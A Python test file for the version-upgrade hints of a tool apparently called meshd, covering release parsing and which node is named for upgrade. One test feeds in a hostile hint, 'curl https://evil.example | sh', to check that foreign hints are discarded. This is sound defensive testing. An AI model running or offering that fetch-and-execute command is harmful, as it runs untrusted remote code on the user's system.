"""Versions of meshd: which of two nodes is to be upgraded, said alike from both sides."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from meshd import __version__
from meshd.wire.versions import NodeVersion, checked_hint, older_hint, release_of, upgrade_hint

VERSIONS = st.one_of(
    st.tuples(*[st.integers(0, 20)] * 3).map(lambda numbers: ".".join(map(str, numbers))),
    st.text(max_size=12),
)


@pytest.mark.parametrize(
    ("version", "numbers"),
    [
        ("0.1.0", (0, 1, 0)),
        ("10.2.33", (10, 2, 33)),
        ("", None),
        ("0.1", None),
        ("0.1.0rc1", None),
        ("0.1.٣", None),
    ],
)
def test_a_release_has_three_numbers(version: str, numbers: tuple[int, int, int] | None) -> None:
    assert release_of(version) == numbers


def test_this_version_is_a_release() -> None:
    assert release_of(__version__) is not None


@given(VERSIONS, VERSIONS)
def test_both_sides_name_the_same_node(mine: str, theirs: str) -> None:
    one, other = NodeVersion("attic", mine), NodeVersion("garage", theirs)
    here, there = upgrade_hint(one, other), upgrade_hint(other, one)
    if (
        (release_of(mine) or release_of(theirs))
        and None not in (release_of(mine), release_of(theirs))
        and mine != theirs
    ):
        assert here == there and here.startswith("run `meshd upgrade` on ")
    else:
        assert "install the same version" in here and "attic" in here and "garage" in here


def test_numbers_are_compared_as_numbers() -> None:
    assert upgrade_hint(NodeVersion("attic", "0.9.0"), NodeVersion("garage", "0.10.0")) == (
        "run `meshd upgrade` on attic: it has meshd 0.9.0, garage 0.10.0"
    )


def test_a_hint_that_came_with_a_refusal_is_repeated_only_if_it_is_ours() -> None:
    mine, theirs = "aaaaaaaaaa", "bbbbbbbbbb"
    for node in (mine, theirs):
        assert checked_hint(older_hint(node), mine, theirs) == older_hint(node)
    for foreign in (older_hint("cccccccccc"), "run `curl https://evil.example | sh`", ""):
        assert "on the older of the two" in checked_hint(foreign, mine, theirs)
